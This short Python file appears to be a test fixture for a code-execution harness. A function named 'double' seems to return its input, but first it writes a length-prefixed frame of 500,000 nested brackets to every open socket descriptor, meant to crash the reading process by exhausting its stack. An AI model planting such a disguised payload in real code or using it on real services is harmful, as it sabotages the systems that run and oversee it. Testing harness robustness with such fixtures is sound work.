# stopped by: design
# ends as: crashed
# says: a malformed message
"""Send lists in lists until whoever reads them runs out of stack."""

import os
import stat
import struct


def double(x):
    header = b"[" * 500_000 + b"]" * 500_000
    frame = struct.pack("<II", len(header), 0) + header
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                while frame:
                    frame = frame[os.write(descriptor, frame) :]
        except OSError:
            pass
    return x
